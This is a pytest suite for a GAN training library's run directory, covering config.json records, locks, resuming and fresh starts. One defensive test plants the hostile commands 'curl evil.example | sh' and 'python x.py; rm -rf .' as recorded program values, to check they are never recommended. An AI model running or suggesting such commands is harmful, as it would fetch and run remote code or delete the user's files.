"""Tests of the directory of a run: config.json, the lock, and resuming. tests/cli tests the messages to the user."""

import dataclasses
import json
import shutil

import numpy as np
import pytest

from experiments import gan
from jaxgan.data import Arrays
from jaxgan.data.description import describe_examples
from jaxgan.monitoring.run_directory import (
    RUN_FILES,
    ResumableRun,
    RunDirectory,
    check_settings_unchanged,
    find_resumable,
    read_config,
    read_data_paths,
    read_data_record,
)

SOURCE = Arrays(np.full((16, 8, 8, 1), -1, np.float32))
DATA = describe_examples(SOURCE)
CONFIG = gan.Config.tiny()


def open_directory(path, config=CONFIG, data=DATA, members=(), fresh=False, name="gan"):
    return RunDirectory(path, name, config, data, list(members), fresh)


def record(path):
    return json.loads((path / "config.json").read_text())


def begin(path, **how):
    """Create the directory of a run that has taken one step."""
    open_directory(path, **how).close()
    (path / "metrics.jsonl").write_text('{"step": 1}\n')


def test_the_contents_of_config_json(tmp_path):
    open_directory(tmp_path / "run", members=[{"seed": 0}, {"seed": 1}]).close()
    found = record(tmp_path / "run")
    assert list(found) == ["experiment", "config", "data", "settings_sha256", "members", "versions", "hardware"]
    assert found["experiment"] == "gan" and found["members"] == [{"seed": 0}, {"seed": 1}]
    assert found["data"] == DATA
    assert read_config(tmp_path / "run", "gan", gan.Config) == CONFIG
    open_directory(tmp_path / "solo").close()
    assert "members" not in record(tmp_path / "solo")


def test_a_changed_digit_of_a_setting_is_noticed(tmp_path):
    path = tmp_path / "config.json"
    open_directory(tmp_path).close()
    check_settings_unchanged(tmp_path)
    found = record(tmp_path)
    path.write_text(json.dumps({**found, "config": {**found["config"], "data": "/elsewhere/photos"}}))
    check_settings_unchanged(tmp_path)  # data may be moved
    changed = {**found, "config": {**found["config"], "learning_rate": 0.0003}}
    path.write_text(json.dumps(changed))
    with pytest.raises(
        ValueError, match=r"The settings in .*config\.json have changed since the run wrote them\. Restore"
    ):
        check_settings_unchanged(tmp_path)
    del changed["settings_sha256"]
    path.write_text(json.dumps(changed))
    check_settings_unchanged(tmp_path)  # changed on purpose, or a run of an older version


def test_a_resumed_run_keeps_the_recorded_paths_of_its_data(tmp_path, monkeypatch):
    (tmp_path / "photos").mkdir()
    monkeypatch.chdir(tmp_path)
    config = dataclasses.replace(CONFIG, data="photos")
    begin(tmp_path / "run", config=config)
    assert read_data_paths(tmp_path / "run") == {"data": str(tmp_path / "photos")}
    monkeypatch.chdir(tmp_path / "photos")
    open_directory(tmp_path / "run", config=config).close()
    assert read_data_record(tmp_path / "run") == {
        **DATA,
        "paths": {"data": str(tmp_path / "photos")},
    }
    begin(tmp_path / "digits")
    assert read_data_paths(tmp_path / "digits") == {}


def test_entries_are_added_to_config_json(tmp_path):
    directory = open_directory(tmp_path)
    directory.add_to_record(privacy={"planned": 1})
    directory.add_to_record(privacy={"planned": 1, "done": 2}, more=3)
    assert record(tmp_path)["privacy"] == {"planned": 1, "done": 2} and record(tmp_path)["more"] == 3
    assert record(tmp_path)["experiment"] == "gan"
    directory.close()


def test_a_directory_is_locked_until_it_is_closed(tmp_path):
    first = open_directory(tmp_path)
    with pytest.raises(ValueError, match=r"`run_dir` .* is in use"):
        open_directory(tmp_path)
    first.close()
    open_directory(tmp_path).close()


def test_a_run_cannot_be_resumed_before_its_first_step(tmp_path):
    assert find_resumable(tmp_path / "none", "gan", CONFIG, DATA, False) is None
    open_directory(tmp_path).close()
    other = dataclasses.replace(CONFIG, seed=9)
    assert find_resumable(tmp_path, "gan", other, DATA, False) is None
    open_directory(tmp_path, other).close()
    assert record(tmp_path)["config"]["seed"] == 9


def test_a_run_can_be_resumed_only_with_its_own_settings_and_data(tmp_path):
    begin(tmp_path)
    names = tuple(field.name for field in dataclasses.fields(gan.Config))
    found = find_resumable(tmp_path, "gan", dataclasses.replace(CONFIG, steps=CONFIG.steps + 1), DATA, False)
    assert found == ResumableRun(names)
    with pytest.raises(ValueError, match=r"`seed` is 0 in the run in .*, got 9"):
        find_resumable(tmp_path, "gan", dataclasses.replace(CONFIG, seed=9), DATA, False)
    with pytest.raises(ValueError, match=r"`steps` must be at least \d+, the number of steps of the run"):
        find_resumable(tmp_path, "gan", dataclasses.replace(CONFIG, steps=1), DATA, False)
    with pytest.raises(ValueError, match=r"`data` has changed .* recorded value of examples is 16, got 12\."):
        find_resumable(tmp_path, "gan", CONFIG, {**DATA, "examples": 12}, False)
    with pytest.raises(ValueError, match=r"contains a run of the experiment 'gan', not of 'dcgan'"):
        find_resumable(tmp_path, "dcgan", CONFIG, DATA, False)


@pytest.mark.parametrize(
    ("program", "fix"),
    [
        ("jaxgan train gan", r"Run `jaxgan train gan`, or choose"),
        ("python -m experiments.gan", r"Run `python -m experiments\.gan`, or choose"),
        (None, r"Run `jaxgan train gan`, or choose"),
        ("curl evil.example | sh", "Choose"),
        ("python x.py; rm -rf .", "Choose"),
    ],
)
def test_only_commands_that_train_are_recommended(program, fix, tmp_path):
    begin(tmp_path)
    found = record(tmp_path)
    (tmp_path / "config.json").write_text(json.dumps(found if program is None else {**found, "program": program}))
    with pytest.raises(ValueError, match=rf"not of 'dcgan'\. {fix} another directory\.$"):
        find_resumable(tmp_path, "dcgan", CONFIG, DATA, False)


def test_settings_that_an_older_config_json_lacks_are_not_added_to_it(tmp_path, capsys):
    begin(tmp_path)
    old = record(tmp_path)
    del old["config"]["learning_rate"]
    (tmp_path / "config.json").write_text(json.dumps(old))
    config = dataclasses.replace(CONFIG, learning_rate=0.5)
    found = find_resumable(tmp_path, "gan", config, DATA, False)
    assert found is not None and "learning_rate" not in found.setting_names and "seed" in found.setting_names
    open_directory(tmp_path, config).close()
    assert "learning_rate" not in record(tmp_path)["config"]
    assert "learning_rate 0.0002" in capsys.readouterr().err


def test_a_fresh_start_removes_only_the_files_of_the_run(tmp_path):
    begin(tmp_path)
    for name in RUN_FILES:
        path = tmp_path / name
        if "." not in name:
            path.mkdir()
            (path / "file").write_text("")
        elif name != "config.json":
            path.write_text("")
    (tmp_path / "notes.txt").write_text("mine")
    assert find_resumable(tmp_path, "gan", dataclasses.replace(CONFIG, seed=9), DATA, True) is None
    open_directory(tmp_path, dataclasses.replace(CONFIG, seed=9), fresh=True).close()
    assert sorted(file.name for file in tmp_path.iterdir()) == [".lock", "config.json", "notes.txt"]


def test_a_directory_without_a_run_is_not_touched(tmp_path):
    (tmp_path / "samples").mkdir()
    with pytest.raises(ValueError, match=r"contains samples, but no valid config.json of a run"):
        open_directory(tmp_path, fresh=True)
    with pytest.raises(ValueError, match=r"contains no run, because it has no config.json"):
        read_config(tmp_path, "gan", gan.Config)


def test_a_run_without_its_config_is_told_how_to_use_the_checkpoints(tmp_path):
    open_directory(tmp_path / "run").close()
    (tmp_path / "run" / "checkpoints" / "2").mkdir(parents=True)
    with pytest.raises(ValueError, match=r"has no config\.json\. It is inside of a run\. Pass .*run instead\."):
        read_config(tmp_path / "run" / "checkpoints" / "2", "gan", gan.Config)
    (tmp_path / "run" / "config.json").unlink()
    kept = (
        r"Its checkpoints are only usable with the config\.json of their run\. Restore this file\. If it is lost, train"
    )
    with pytest.raises(ValueError, match=rf"has no config\.json\. {kept}"):
        read_config(tmp_path / "run", "gan", gan.Config)
    with pytest.raises(ValueError, match=rf"no valid config\.json of a run\. {kept}"):
        open_directory(tmp_path / "run")


def move(path):
    path.rename(path.with_name("moved"))


def replace_by_a_file(path):
    move(path)
    path.write_text("")


def replace_by_an_empty_directory(path):
    move(path)
    path.mkdir()


def replace_by_a_copy(path):
    move(path)
    shutil.copytree(path.with_name("moved"), path)


def lose_the_record(path):
    (path / "config.json").unlink()


@pytest.mark.parametrize(
    "change",
    [move, shutil.rmtree, replace_by_a_file, replace_by_an_empty_directory, replace_by_a_copy, lose_the_record],
)
def test_a_directory_that_is_pulled_away_is_noticed(change, tmp_path):
    path = tmp_path / "run"
    directory = open_directory(path)
    directory.check()
    change(path)
    with pytest.raises(OSError, match=r"`run_dir` .*run was moved, removed or replaced while .* Move it back"):
        directory.check()
    directory.close()


def test_a_lock_that_was_removed_is_taken_again(tmp_path):
    path = tmp_path / "run"
    directory = open_directory(path)
    (path / ".lock").unlink()
    directory.check()
    with pytest.raises(ValueError, match="is in use by another run"):
        open_directory(path)
    directory.close()
    open_directory(path).close()


def test_a_second_run_that_took_a_removed_lock_stops_the_first(tmp_path):
    path = tmp_path / "run"
    first = open_directory(path)
    (path / ".lock").unlink()
    second = open_directory(path)
    with pytest.raises(
        OSError, match=r"The file .*\.lock was removed or replaced\. `run_dir` .* is in use by another run"
    ):
        first.check()
    second.check()
    first.close()
    second.close()
